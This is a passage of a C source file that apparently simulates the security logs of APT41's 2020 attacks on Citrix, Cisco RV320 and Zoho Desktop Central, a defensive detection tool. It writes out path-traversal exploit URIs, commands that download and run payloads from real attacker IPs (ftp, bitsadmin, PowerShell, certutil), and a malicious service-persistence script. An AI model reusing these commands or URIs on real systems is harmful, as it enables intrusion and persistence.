/*
 * apt41.c - the campaign: APT41's January-March 2020 exploitation of
 * Citrix ADC, Cisco RV320 and Zoho Desktop Central, as the public
 * reporting describes it (reference/apt41-2020.md).
 *
 * Timeline: Citrix from 2020-01-20 to 01-22 (the `file /bin/pwd` probe),
 * the first FTP wave on the evening of 01-31 and 02-01 (/tmp/bsd), nothing
 * from 02-02 to 02-19, the Cisco RV320 on 02-21, the second Citrix wave on
 * 02-24/25 (/tmp/un), Desktop Central from late 03-08 to 03-11. Responses
 * follow each tenant's patch state; post-exploitation only happens where
 * the exploit really ran, and is visible only in the logs the tenant ships.
 */
#include "core/common.h"

#include "sim/plan.h"

#define IP_A SIM_IP_APT41_A
#define IP_Z SIM_IP_APT41_Z
#define A_IP "66.42.98.220"
#define Z_IP "91.208.184.78"

/* Browser-like User-Agents for the exploit requests: the one in FireEye's
 * figure is unverified, so none is fixed (docs/SIMULATOR.md). */
static const char *const apt_uas[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/79.0.3945.117 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:72.0) Gecko/20100101 Firefox/72.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/80.0.3987.87 Safari/537.36",
};

static sim_mark apt(int cve, int stage)
{
    return sim_mk(ACT_APT41, cve, stage, 0);
}

static int64_t jitter(sim_rng *r, double lo_s, double hi_s)
{
    return (int64_t)((lo_s + sim_f64(r) * (hi_s - lo_s)) * 1e9);
}

/* ---- Citrix ---------------------------------------------------------------------------- */

enum citrix_cmd { CMD_PROBE, CMD_BSD, CMD_UN };

/* Zeek sees the appliance's outbound FTP and the Speculoos TLS channel. */
static void citrix_payload(sim_ctx *c, sim_tenant *t, sim_rng *r, int64_t ts, const char *file)
{
    sim_mark m = apt(CVE_CITRIX, ST_COMPROMISED);
    const char *url = sim_strf(c, "ftp://" A_IP "/%s", file);
    const char *cmd = sim_strf(c, "/usr/bin/ftp -o /tmp/%s ftp://test:%s@" A_IP "/%s", file,
                               c->ftp_pw, file);
    sim_ev *e = sim_add(c, t, SS_CITRIX_SH, ts + jitter(r, 0.05, 0.4), m);
    e->u.sh = (sim_sh){ .user = "nobody", .cmd = cmd, .pid = 40000 + sim_below(r, 20000) };
    e->infra[0] = A_IP;
    e->infra[1] = url;
    e = sim_net_ev(c, t, SS_ZEEK, ts + jitter(r, 0.3, 0.8), m, APP_FTP, t->nsip, sim_eport(r),
                   IP_A, 21);
    e->u.net.ftp_user = "test";
    e->u.net.ftp_arg = file;
    e->u.net.ftp_size = strcmp(file, "bsd") == 0 ? 421312 : 398768;
    e->u.net.data_port = (uint16_t)(50000 + sim_below(r, 10000));
    e->u.net.dur_us = 2400000 + sim_below(r, 3000000);
    e->u.net.ob = 120;
    e->u.net.rb = 600;
    e->infra[0] = A_IP;
    e->infra[1] = url;
}

static void citrix_exec(sim_ctx *c, sim_tenant *t, sim_rng *r, int64_t ts, const char *file)
{
    sim_mark m = apt(CVE_CITRIX, ST_COMPROMISED);
    sim_ev *e = sim_add(c, t, SS_CITRIX_SH, ts + jitter(r, 0.05, 0.4), m);
    e->u.sh = (sim_sh){ .user = "nobody",
                            .cmd = sim_strf(c, "chmod +x /tmp/%s;/tmp/%s", file, file),
                            .pid = 40000 + sim_below(r, 20000) };
    /* Speculoos: TLS with a Microsoft SNI to 119.28.139.120. It does not
     * persist (Unit 42), so it lasts until the appliance's next reboot, 1-6
     * days later, or its rebuild, whichever comes first */
    int64_t end = TR_MIN(t->citrix_fixed + 2 * SIM_DAY, ts + jitter(r, 86400, 6 * 86400));
    int64_t at = ts + jitter(r, 2, 20);
    int64_t next_dns = at;
    while (at < end) {
        if (at >= next_dns) {
            e = sim_net_ev(c, t, SS_ZEEK, at - 40 * 1000000, m, APP_DNS, t->nsip, sim_eport(r),
                           0x08080808u, 53);
            e->u.net.query = "alibaba.zzux.com";
            e->u.net.answer = "119.28.139.120";
            e->u.net.qtype = 1;
            e->u.net.ttl = 600;
            e->u.net.dur_us = 31000 + sim_below(r, 40000);
            e->u.net.ob = 34;
            e->u.net.rb = 50;
            e->infra[0] = "alibaba.zzux.com";
            e->infra[1] = "119.28.139.120";
            next_dns = at + 6 * SIM_HOUR;
        }
        e = sim_net_ev(c, t, SS_ZEEK, at, m, APP_SSL, t->nsip, sim_eport(r), SIM_IP_SPEC_A, 443);
        e->u.net.sni = "login.live.com";
        e->u.net.subject = "CN=login.live.com";
        e->u.net.issuer = "CN=login.live.com";
        e->u.net.dur_us = 1000000 + sim_below(r, 60000000);
        e->u.net.ob = 700 + sim_below(r, 3000);
        e->u.net.rb = 1500 + sim_below(r, 9000);
        e->infra[0] = "119.28.139.120";
        at += (int64_t)(sim_exp(r, 50.0) * 60e9) + 60 * SIM_NS;
    }
}

/* One exploitation attempt: the optional smb.conf check, the newbm.pl
 * POST that writes the template, the .xml fetch that runs it. */
static void citrix_visit(sim_ctx *c, sim_tenant *t, sim_rng *r, int64_t ts, int cmd)
{
    const char *ua = SIM_PICK(r, apt_uas);
    if (sim_chance(r, 0.35)) {
        uint16_t st = sim_citrix_status(t, ts, 200);
        sim_ev *e = sim_web_ev(c, t, SS_CITRIX_WEB, ts, apt(CVE_CITRIX, st == 200 ? ST_EXPLOITED
                                                                                  : ST_TARGETED),
                               IP_A, "GET", "/vpn/../vpns/cfg/smb.conf", st,
                               st == 200 ? 1284 : 563, ua);
        e->infra[0] = A_IP;
        ts += jitter(r, 1, 4);
    }
    for (int pass = 0; pass < (cmd == CMD_PROBE ? 1 : 2); pass++) {
        uint16_t st = sim_citrix_status(t, ts, 200);
        sim_ev *e = sim_web_ev(c, t, SS_CITRIX_WEB, ts,
                               apt(CVE_CITRIX, st == 200 ? ST_EXPLOITED : ST_TARGETED), IP_A,
                               "POST", "/vpn/../vpns/portal/scripts/newbm.pl", st,
                               st == 200 ? 120 + sim_below(r, 60) : 563, ua);
        e->infra[0] = A_IP;
        e->u.web.time_us = 5000 + sim_below(r, 6000);
        if (t->zeek) {
            e = sim_net_ev(c, t, SS_ZEEK, ts - 150 * 1000000, apt(CVE_CITRIX, ST_TARGETED),
                           APP_SSL, IP_A, sim_eport(r), t->vip, 443);
            e->u.net.sni = NULL;
            e->u.net.subject = sim_strf(c, "CN=gateway.%s.example.com", t->slug);
            e->u.net.issuer = "CN=DigiCert SHA2 Secure Server CA,O=DigiCert Inc,C=US";
            e->u.net.ob = 1900 + sim_below(r, 800);
            e->u.net.rb = 900 + sim_below(r, 800);
            e->u.net.dur_us = 3000000;
            e->infra[0] = A_IP;
        }
        int64_t t2 = ts + jitter(r, 0.8, 3.0);
        uint16_t st2 = st == 200 ? sim_citrix_status(t, t2, 200) : st;
        const char *uri = sim_strf(c, "/vpn/../vpns/portal/%s.xml", sim_rand_name(c, r, 10));
        e = sim_web_ev(c, t, SS_CITRIX_WEB, t2,
                       apt(CVE_CITRIX, st2 == 200 ? ST_EXPLOITED : ST_TARGETED), IP_A, "GET", uri,
                       st2, st2 == 200 ? 640 + sim_below(r, 90) : 563, ua);
        e->infra[0] = A_IP;
        e->u.web.time_us = 90000 + sim_below(r, 90000);
        if (st2 != 200)
            return;
        /* the template ran as nobody */
        if (cmd == CMD_PROBE) {
            e = sim_add(c, t, SS_CITRIX_SH, t2 + jitter(r, 0.05, 0.3),
                        apt(CVE_CITRIX, ST_COMPROMISED));
            e->u.sh = (sim_sh){ .user = "nobody", .cmd = "file /bin/pwd",
                                .pid = 40000 + sim_below(r, 20000) };
        } else if (pass == 0) {
            citrix_payload(c, t, r, t2, cmd == CMD_BSD ? "bsd" : "un");
        } else {
            citrix_exec(c, t, r, t2, cmd == CMD_BSD ? "bsd" : "un");
        }
        ts = t2 + jitter(r, 15, 60);
    }
}

static int64_t in_window(sim_rng *r, int64_t a, int64_t b)
{
    return a + (int64_t)(sim_f64(r) * (double)(b - a));
}

static void plan_citrix(sim_ctx *c, sim_rng *r)
{
    int64_t p1a = sim_date(2020, 1, 20), p1b = sim_date(2020, 1, 23);
    int64_t w1a = sim_date(2020, 1, 31) + 18 * SIM_HOUR, w1b = sim_date(2020, 2, 2);
    int64_t w2a = sim_date(2020, 2, 24), w2b = sim_date(2020, 2, 26);
    uint32_t ncomp = 0;
    for (uint32_t i = 0; i < c->nt; i++) {
        sim_tenant *t = &c->t[i];
        uint8_t role = t->role[CVE_CITRIX];
        if (role == ROLE_NONE)
            continue;
        if (role == ROLE_COMPROMISED) {
            /* Unit 42: bsd wave victims first, then the un wave */
            bool bsd = ncomp % 2 == 0 || ncomp % 3 == 2;
            citrix_visit(c, t, r, in_window(r, p1a, p1b), CMD_PROBE);
            if (bsd)
                citrix_visit(c, t, r, in_window(r, w1a, w1b), CMD_BSD);
            else
                citrix_visit(c, t, r, in_window(r, w2a, w2b), CMD_UN);
            ncomp++;
        } else if (role == ROLE_EXPLOITED) {
            citrix_visit(c, t, r, in_window(r, p1a, p1b), CMD_PROBE);
            if (sim_chance(r, 0.5))
                citrix_visit(c, t, r, in_window(r, w2a, w2b), CMD_UN);
        } else {
            bool p1 = sim_chance(r, 0.7);
            if (p1)
                citrix_visit(c, t, r, in_window(r, p1a, p1b), CMD_PROBE);
            if (!p1 || sim_chance(r, 0.25)) {
                if (sim_chance(r, 0.5))
                    citrix_visit(c, t, r, in_window(r, w1a, w1b), CMD_BSD);
                else
                    citrix_visit(c, t, r, in_window(r, w2a, w2b), CMD_UN);
            }
        }
    }
}

/* ---- Cisco RV320 ----------------------------------------------------------------------- */

static sim_ev *rv_http(sim_ctx *c, sim_tenant *t, sim_rng *r, int64_t ts, sim_mark m,
                       uint32_t src, const char *method, const char *uri, uint16_t status,
                       uint32_t req, uint32_t resp, const char *ua)
{
    sim_ev *e = sim_net_ev(c, t, SS_EVE, ts, m, APP_HTTP, src, sim_eport(r), t->wan, 8007);
    sim_net *n = &e->u.net;
    n->method = method;
    n->uri = uri;
    n->host = sim_strf(c, "%u.%u.%u.%u:8007", t->wan >> 24, (t->wan >> 16) & 255,
                       (t->wan >> 8) & 255, t->wan & 255);
    n->ua = ua;
    n->status = status;
    n->req_len = req;
    n->resp_len = resp;
    n->ob = req + 180;
    n->rb = resp + 220;
    n->mime = status == 200 ? "text/plain" : "text/html";
    n->dur_us = 80000 + sim_below(r, 300000);
    return e;
}

static void plan_cisco(sim_ctx *c, sim_rng *r)
{
    int64_t day = sim_date(2020, 2, 21);
    static const char *const rv_ua =
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:73.0) Gecko/20100101 Firefox/73.0";
    for (uint32_t i = 0; i < c->nt; i++) {
        sim_tenant *t = &c->t[i];
        uint8_t role = t->role[CVE_RV_1653];
        if (role == ROLE_NONE)
            continue;
        int64_t ts = in_window(r, day, day + SIM_DAY - SIM_HOUR);
        bool ok = role >= ROLE_EXPLOITED;
        uint16_t st = ok ? 200 : t->cisco_block;
        sim_ev *e = rv_http(c, t, r, ts, apt(CVE_RV_1653, ok ? ST_EXPLOITED : ST_TARGETED), IP_A,
                            "GET", "/cgi-bin/config.exp", st, 0,
                            ok ? 18000 + sim_below(r, 9000) : 345, rv_ua);
        e->u.net.sid = 2033089;
        e->u.net.sid2 = ok ? 2033090 : 0;
        e->infra[0] = A_IP;
        if (!ok) {
            if (sim_chance(r, 0.5)) {
                e = rv_http(c, t, r, ts + jitter(r, 1, 5), apt(CVE_RV_1653, ST_TARGETED), IP_A,
                            "POST", "/cgi-bin/export_debug_msg.exp", st, 16, 345, rv_ua);
                e->u.net.sid = 2033091;
                e->infra[0] = A_IP;
            }
            continue;
        }
        ts += jitter(r, 2, 6);
        e = rv_http(c, t, r, ts, apt(CVE_RV_1653, ST_TARGETED), IP_A, "POST",
                    "/cgi-bin/userLogin.cgi", 200, 180, 1480, rv_ua);
        e->infra[0] = A_IP;
        ts += jitter(r, 1, 4);
        e = rv_http(c, t, r, ts, apt(CVE_RV_1652, ST_TARGETED), IP_A, "POST",
                    "/certificate_handle2.htm?type=4", 200, 610, 2310, rv_ua);
        e->u.net.sid = 2026860;
        e->u.net.sid2 = 2033088;
        e->infra[0] = A_IP;
        if (role != ROLE_COMPROMISED)
            continue;
        /* the injected wget: the router fetches the stager and the ELF */
        sim_mark pm = apt(CVE_RV_1652, ST_COMPROMISED);
        pm.cve2 = CVE_RV_1653;
        ts += jitter(r, 3, 9);
        for (int k = 0; k < 2; k++) {
            e = sim_net_ev(c, t, SS_EVE, ts, pm, APP_HTTP, t->wan, sim_eport(r), IP_A, 80);
            sim_net *n = &e->u.net;
            n->method = "GET";
            n->host = A_IP;
            n->uri = k == 0 ? "/1.txt" : "/fuc";
            n->ua = "Wget";
            n->status = 200;
            n->resp_len = k == 0 ? 212 : 189436;
            n->mime = k == 0 ? "text/plain" : "application/x-executable";
            n->ob = 160;
            n->rb = n->resp_len + 240;
            n->dur_us = k == 0 ? 300000 : 4100000;
            e->infra[0] = A_IP;
            e->infra[1] = k == 0 ? "http://" A_IP "/1.txt" : "http://" A_IP "/fuc";
            if (k == 1)
                n->sid = 2000418;
            ts += jitter(r, 1, 3);
        }
    }
}

/* ---- Zoho Desktop Central -------------------------------------------------------------- */

#define SYSTEM_USER "NT AUTHORITY\\SYSTEM"
#define BAT_URL "http://" A_IP ":12345/test/install.bat"
#define DLL_URL "http://" A_IP ":12345/test/storesyncsvc.dll"
#define CERT_URL "http://" Z_IP "/2.exe"

typedef struct dc_ctx {
    sim_ctx *c;
    sim_tenant *t;
    sim_rng *r;
    const char *java, *java_cmd; /* Desktop Central's java.exe and its command line */
} dc_ctx;

static sim_mark comp(void)
{
    return apt(CVE_ZOHO, ST_COMPROMISED);
}

static void sm_file(dc_ctx *d, int64_t ts, uint32_t pid, const char *image, const char *path,
                    sim_mark m)
{
    sim_ev *e = sim_sm_ev(d->c, d->t, ts, m, 11);
    e->u.sm.pid = pid;
    e->u.sm.image = image;
    e->u.sm.target = path;
}

static void sm_reg(dc_ctx *d, int64_t ts, uint32_t pid, const char *image, const char *key,
                   const char *details)
{
    sim_ev *e = sim_sm_ev(d->c, d->t, ts, comp(), 13);
    e->u.sm.pid = pid;
    e->u.sm.image = image;
    e->u.sm.target = key;
    e->u.sm.details = details;
}

static sim_ev *sm_conn(dc_ctx *d, int64_t ts, uint32_t pid, const char *image, uint32_t dip,
                       uint16_t dport, sim_mark m)
{
    sim_ev *e = sim_sm_ev(d->c, d->t, ts, m, 3);
    e->u.sm.pid = pid;
    e->u.sm.image = image;
    e->u.sm.user = SYSTEM_USER;
    e->u.sm.sip = d->t->dc_lan;
    e->u.sm.sport = sim_eport(d->r);
    e->u.sm.dip = dip;
    e->u.sm.dport = dport;
    e->u.sm.initiated = true;
    return e;
}

static sim_ev *zeek_http(dc_ctx *d, int64_t ts, sim_mark m, uint32_t dip, uint16_t dport,
                         const char *host, const char *uri, const char *ua, uint32_t len,
                         const char *mime)
{
    sim_ev *e = sim_net_ev(d->c, d->t, SS_ZEEK, ts, m, APP_HTTP, d->t->dc_lan, sim_eport(d->r),
                           dip, dport);
    sim_net *n = &e->u.net;
    n->method = "GET";
    n->host = host;
    n->uri = uri;
    n->ua = ua;
    n->status = 200;
    n->resp_len = len;
    n->mime = mime;
    n->ob = 220;
    n->rb = len + 300;
    n->dur_us = 200000 + len / 10;
    return e;
}

/* A download of url to dest by a process (BITS, PowerShell or certutil),
 * as Sysmon and Zeek see it. */
static void download(dc_ctx *d, int64_t ts, uint32_t pid, const char *image, uint32_t ip,
                     uint16_t port, const char *path, const char *url, const char *dest,
                     const char *ua, uint32_t len, const char *mime)
{
    sim_ev *e = sm_conn(d, ts, pid, image, ip, port, comp());
    e->infra[0] = port == 12345 ? A_IP : Z_IP;
    e->infra[1] = url;
    sm_file(d, ts + jitter(d->r, 0.2, 1.5), pid, image, dest, comp());
    if (d->t->zeek) {
        e = zeek_http(d, ts, comp(), ip, port, port == 80 ? (ip == IP_A ? A_IP : Z_IP)
                                                            : sim_strf(d->c, "%s:%u",
                                                                       ip == IP_A ? A_IP : Z_IP,
                                                                       port),
                      path, ua, len, mime);
        e->infra[0] = port == 12345 ? A_IP : Z_IP;
        e->infra[1] = url;
    }
}

/* install.bat (Group-IB's copy): the StorSyncSvc service and its DLL. */
static int64_t run_install_bat(dc_ctx *d, int64_t ts, uint32_t parent, const char *pimage,
                               const char *pcmd, uint32_t *svc_pid)
{
    sim_ctx *c = d->c;
    sim_tenant *t = d->t;
    sim_rng *r = d->r;
    const char *bat_cmd = "cmd /c C:\\Users\\Public\\install.bat";
    uint32_t bat = sim_proc(c, t, ts, comp(), "C:\\Windows\\System32\\cmd.exe", bat_cmd, parent,
                            pimage, pcmd, SYSTEM_USER, NULL);
    static const char *const steps[] = {
        "sc  stop StorSyncSvc",
        "sc  delete StorSyncSvc",
        NULL, /* copy */
        "reg  add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Svchost\" /v "
        "StorSyncSvc /t REG_MULTI_SZ /d StorSyncSvc /f",
        "sc  create StorSyncSvc binPath= \"%SystemRoot%\\system32\\svchost.exe -k StorSyncSvc\" "
        "type= share start= auto error= ignore DisplayName= \"Storage Sync Service\"",
        "sc  failure StorSyncSvc reset= 86400 actions= "
        "restart/60000/restart/60000/restart/60000",
        "sc  description StorSyncSvc \"Provides Azure File Sync storage synchronization and "
        "tiering for this server.\"",
        "reg  add HKLM\\SYSTEM\\CurrentControlSet\\Services\\StorSyncSvc\\Parameters /v "
        "ServiceDll /t REG_EXPAND_SZ /d C:\\Windows\\System32\\storesyncsvc.dll /f",
        "net  start StorSyncSvc",
    };
    for (size_t i = 0; i < TR_ARRAY_LEN(steps); i++) {
        ts += jitter(r, 0.05, 0.6);
        if (!steps[i]) {
            sm_file(d, ts, bat, "C:\\Windows\\System32\\cmd.exe",
                    "C:\\Windows\\System32\\storesyncsvc.dll", comp());
            continue;
        }
        const char *image = steps[i][0] == 's'   ? "C:\\Windows\\System32\\sc.exe"
                            : steps[i][0] == 'r' ? "C:\\Windows\\System32\\reg.exe"
                                                 : "C:\\Windows\\System32\\net.exe";
        uint32_t pid = sim_proc(c, t, ts, comp(), image, steps[i], bat,
                                "C:\\Windows\\System32\\cmd.exe", bat_cmd, SYSTEM_USER, NULL);
        int64_t t2 = ts + jitter(r, 0.01, 0.1);
        if (i == 3)
            sm_reg(d, t2, pid, image,
                   "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Svchost\\StorSyncSvc",
                   "StorSyncSvc");
        if (i == 4) {
            sm_reg(d, t2, t->pid_services, "C:\\Windows\\system32\\services.exe",
                   "HKLM\\System\\CurrentControlSet\\Services\\StorSyncSvc\\ImagePath",
                   "%%SystemRoot%%\\system32\\svchost.exe -k StorSyncSvc");
            sm_reg(d, t2, t->pid_services, "C:\\Windows\\system32\\services.exe",
                   "HKLM\\System\\CurrentControlSet\\Services\\StorSyncSvc\\Start",
                   "DWORD (0x00000002)");
        }
        if (i == 7)
            sm_reg(d, t2, pid, image,
                   "HKLM\\System\\CurrentControlSet\\Services\\StorSyncSvc\\Parameters\\ServiceDll",
                   "C:\\Windows\\System32\\storesyncsvc.dll");
        if (i == 8) {
            sim_proc(c, t, t2, comp(), "C:\\Windows\\System32\\net1.exe",
                     "C:\\Windows\\system32\\net1  start StorSyncSvc", pid,
                     "C:\\Windows\\System32\\net.exe", steps[i], SYSTEM_USER, NULL);
        }
    }
    ts += jitter(r, 0.3, 1.0);
    *svc_pid = sim_proc(c, t, ts, comp(), "C:\\Windows\\System32\\svchost.exe",
                        "C:\\Windows\\system32\\svchost.exe -k StorSyncSvc", t->pid_services,
                        "C:\\Windows\\System32\\services.exe",
                        "C:\\Windows\\system32\\services.exe", SYSTEM_USER, NULL);
    ts += jitter(r, 0.05, 0.2);
    sim_ev *e = sim_sm_ev(c, t, ts, comp(), 7);
    e->u.sm.pid = *svc_pid;
    e->u.sm.image = "C:\\Windows\\System32\\svchost.exe";
    e->u.sm.target = "C:\\Windows\\System32\\storesyncsvc.dll";
    e->u.sm.hashes = "MD5=5909983DB4D9023E4098E56361C96A6F";
    return ts;
}

/* Cobalt Strike BEACON (jquery profile) from the service until the tenant
 * cleans up. */
static void beacon(dc_ctx *d, int64_t ts, uint32_t svc, int64_t end)
{
    sim_ctx *c = d->c;
    sim_tenant *t = d->t;
    sim_rng *r = d->r;
    int64_t next_dns = ts;
    while (ts < end) {
        if (ts >= next_dns) {
            sim_ev *e = sim_sm_ev(c, t, ts, comp(), 22);
            e->u.sm.pid = svc;
            e->u.sm.image = "C:\\Windows\\System32\\svchost.exe";
            e->u.sm.target = "exchange.dumb1.com";
            e->u.sm.details = "::ffff:74.82.201.8;";
            e->infra[0] = "exchange.dumb1.com";
            e->infra[1] = "74.82.201.8";
            if (t->zeek) {
                e = sim_net_ev(c, t, SS_ZEEK, ts + 2 * 1000000, comp(), APP_DNS, t->dns_lan,
                               sim_eport(r), 0x08080808u, 53);
                e->u.net.query = "exchange.dumb1.com";
                e->u.net.answer = "74.82.201.8";
                e->u.net.qtype = 1;
                e->u.net.ttl = 300;
                e->u.net.ob = 36;
                e->u.net.rb = 52;
                e->u.net.dur_us = 40000;
                e->infra[0] = "exchange.dumb1.com";
                e->infra[1] = "74.82.201.8";
            }
            next_dns = ts + SIM_HOUR + (int64_t)(sim_f64(r) * 3600e9);
        }
        sim_ev *e = sm_conn(d, ts + 20 * 1000000, svc, "C:\\Windows\\System32\\svchost.exe",
                            SIM_IP_BEACON, 80, comp());
        e->infra[0] = "74.82.201.8";
        if (t->zeek) {
            e = zeek_http(d, ts + 21 * 1000000, comp(), SIM_IP_BEACON, 80, "code.jquery.com",
                          "/jquery-3.3.1.min.js",
                          "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko",
                          5543 + sim_below(r, 40), "text/plain");
            e->u.net.ref = "http://code.jquery.com/";
            e->infra[0] = "74.82.201.8";
        }
        ts += (int64_t)((480 + sim_f64(r) * 240) * 1e9);
    }
}

/* certutil fetches 2.exe (Meterpreter downloader) from the exploitation
 * host; it then talks to 91.208.184.78:443. */
static void second_stage(dc_ctx *d, int64_t ts, uint32_t svc, int64_t end)
{
    sim_ctx *c = d->c;
    sim_tenant *t = d->t;
    sim_rng *r = d->r;
    const char *svc_cmd = "C:\\Windows\\system32\\svchost.exe -k StorSyncSvc";
    const char *cmdl = "C:\\Windows\\system32\\cmd.exe /C certutil -urlcache -split -f " CERT_URL;
    uint32_t sh = sim_proc(c, t, ts, comp(), "C:\\Windows\\System32\\cmd.exe", cmdl, svc,
                           "C:\\Windows\\System32\\svchost.exe", svc_cmd, SYSTEM_USER, NULL);
    ts += jitter(r, 0.05, 0.3);
    const char *ccmd = "certutil  -urlcache -split -f " CERT_URL;
    uint32_t cu = sim_proc(c, t, ts, comp(), "C:\\Windows\\System32\\certutil.exe", ccmd, sh,
                           "C:\\Windows\\System32\\cmd.exe", cmdl, SYSTEM_USER, NULL);
    ts += jitter(r, 0.2, 0.8);
    download(d, ts, cu, "C:\\Windows\\System32\\certutil.exe", IP_Z, 80, "/2.exe", CERT_URL,
             "C:\\Windows\\System32\\2.exe", "CertUtil URL Agent", 1836032,
             "application/x-dosexec");
    if (t->zeek) {
        sim_ev *e = zeek_http(d, ts - 300 * 1000000, comp(), IP_Z, 80, Z_IP, "/2.exe",
                              "Microsoft-CryptoAPI/10.0", 1836032, "application/x-dosexec");
        e->u.net.method = "HEAD";
        e->u.net.resp_len = 0;
        e->infra[0] = Z_IP;
        e->infra[1] = CERT_URL;
    }
    ts += jitter(r, 20, 120);
    const char *ecmdl = "C:\\Windows\\system32\\cmd.exe /C 2.exe";
    uint32_t sh2 = sim_proc(c, t, ts, comp(), "C:\\Windows\\System32\\cmd.exe", ecmdl, svc,
                            "C:\\Windows\\System32\\svchost.exe", svc_cmd, SYSTEM_USER, NULL);
    ts += jitter(r, 0.05, 0.3);
    uint32_t exe = sim_proc(c, t, ts, comp(), "C:\\Windows\\System32\\2.exe", "2.exe", sh2,
                            "C:\\Windows\\System32\\cmd.exe", ecmdl, SYSTEM_USER,
                            "MD5=3E856162C36B532925C8226B4ED3481C");
    ts += jitter(r, 1, 5);
    while (ts < end) {
        sim_ev *e = sm_conn(d, ts, exe, "C:\\Windows\\System32\\2.exe", IP_Z, 443, comp());
        e->infra[0] = Z_IP;
        if (t->zeek) {
            e = sim_net_ev(c, t, SS_ZEEK, ts + 1000000, comp(), APP_SSL, t->dc_lan,
                           sim_eport(r), IP_Z, 443);
            e->u.net.ob = 300 + sim_below(r, 4000);
            e->u.net.rb = 500 + sim_below(r, 9000);
            e->u.net.dur_us = 500000 + sim_below(r, 30000000);
            e->u.net.subject = "CN=" Z_IP;
            e->u.net.issuer = "CN=" Z_IP;
            e->infra[0] = Z_IP;
        }
        ts += (int64_t)(sim_exp(r, 900.0) * 1e9) + 30 * SIM_NS;
    }
}

static void zoho_compromise(dc_ctx *d, int64_t ts, int variant, bool certutil)
{
    sim_ctx *c = d->c;
    sim_tenant *t = d->t;
    sim_rng *r = d->r;
    uint32_t svc = 0;
    int64_t end = ts + 2 * SIM_DAY + (int64_t)(sim_f64(r) * 4 * 86400e9);
    if (variant == 0) {
        /* bitsadmin from 66.42.98.220:12345 */
        const char *files[2][3] = {
            { BAT_URL, "C:\\Users\\Public\\install.bat", "/test/install.bat" },
            { DLL_URL, "C:\\Users\\Public\\storesyncsvc.dll", "/test/storesyncsvc.dll" },
        };
        for (int k = 0; k < 2; k++) {
            const char *cmd = sim_strf(c, "cmd /c bitsadmin /transfer bbbb %s %s", files[k][0],
                                       files[k][1]);
            uint32_t sh = sim_proc(c, t, ts, comp(), "C:\\Windows\\System32\\cmd.exe", cmd,
                                   t->pid_java, d->java, d->java_cmd, SYSTEM_USER, NULL);
            ts += jitter(r, 0.05, 0.3);
            const char *bcmd = sim_strf(c, "bitsadmin  /transfer bbbb %s %s", files[k][0],
                                        files[k][1]);
            sim_proc(c, t, ts, comp(), "C:\\Windows\\System32\\bitsadmin.exe", bcmd, sh,
                     "C:\\Windows\\System32\\cmd.exe", cmd, SYSTEM_USER, NULL);
            ts += jitter(r, 0.5, 2);
            download(d, ts, t->pid_netsvcs, "C:\\Windows\\System32\\svchost.exe", IP_A, 12345,
                     files[k][2], files[k][0], files[k][1], "Microsoft BITS/7.8",
                     k == 0 ? 1631 : 292864, k == 0 ? "text/plain" : "application/x-dosexec");
            ts += jitter(r, 2, 8);
        }
        ts = run_install_bat(d, ts, t->pid_java, d->java, d->java_cmd, &svc);
    } else {
        /* logger.zip's Java program runs PowerShell */
        const char *ps = "powershell.exe -nop -w hidden -c \"$c=New-Object "
                         "System.Net.WebClient;$c.DownloadFile('" BAT_URL
                         "','C:\\Users\\Public\\install.bat');$c.DownloadFile('" DLL_URL
                         "','C:\\Users\\Public\\storesyncsvc.dll')\"";
        const char *psimg = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        uint32_t pp = sim_proc(c, t, ts, comp(), psimg, ps, t->pid_java, d->java, d->java_cmd,
                               SYSTEM_USER, NULL);
        ts += jitter(r, 1, 3);
        download(d, ts, pp, psimg, IP_A, 12345, "/test/install.bat", BAT_URL,
                 "C:\\Users\\Public\\install.bat", NULL, 1631, "text/plain");
        ts += jitter(r, 0.5, 2);
        download(d, ts, pp, psimg, IP_A, 12345, "/test/storesyncsvc.dll", DLL_URL,
                 "C:\\Users\\Public\\storesyncsvc.dll", NULL, 292864, "application/x-dosexec");
        ts += jitter(r, 1, 3);
        ts = run_install_bat(d, ts, pp, psimg, ps, &svc);
    }
    ts += jitter(r, 1, 10);
    beacon(d, ts, svc, end);
    if (certutil)
        second_stage(d, ts + jitter(r, 2 * 3600, 5 * 3600), svc, end);
}

static void zoho_visit(sim_ctx *c, sim_tenant *t, sim_rng *r, int64_t ts, int *ncomp)
{
    static const char *const zua[] = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:73.0) Gecko/20100101 Firefox/73.0",
        "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/80.0.3987.122 Safari/537.36",
    };
    const char *ua = SIM_PICK(r, zua);
    uint16_t st = sim_dc_status(t, ts, 200);
    sim_ev *e = sim_web_ev(c, t, SS_DC_WEB, ts, apt(CVE_ZOHO, ST_TARGETED), IP_Z, "POST",
                           "/mdm/client/v1/mdmLogUploader?udid=si%5C..%5C..%5C..%5Cwebapps%5C"
                           "DesktopCentral%5C_chart&filename=logger.zip",
                           st, st == 200 ? 0 : 1022, ua);
    e->infra[0] = Z_IP;
    if (t->zeek) {
        e = sim_net_ev(c, t, SS_ZEEK, ts - 100 * 1000000, apt(CVE_ZOHO, ST_TARGETED),
                       t->dc_port == 8020 ? APP_HTTP : APP_SSL, IP_Z, sim_eport(r), t->dc_lan,
                       t->dc_port);
        e->infra[0] = Z_IP;
        sim_net *n = &e->u.net;
        if (n->app == APP_HTTP) {
            n->method = "POST";
            n->host = sim_strf(c, "%u.%u.%u.%u:8020", t->dc_pub >> 24, (t->dc_pub >> 16) & 255,
                               (t->dc_pub >> 8) & 255, t->dc_pub & 255);
            n->uri = "/mdm/client/v1/mdmLogUploader?udid=si%5C..%5C..%5C..%5Cwebapps%5C"
                     "DesktopCentral%5C_chart&filename=logger.zip";
            n->ua = ua;
            n->status = st;
            n->req_len = 2981;
            n->resp_len = st == 200 ? 0 : 1022;
            n->mime = "text/html";
        } else {
            n->subject = sim_strf(c, "CN=%s", t->dc_host);
            n->issuer = sim_strf(c, "CN=%s", t->dc_host);
        }
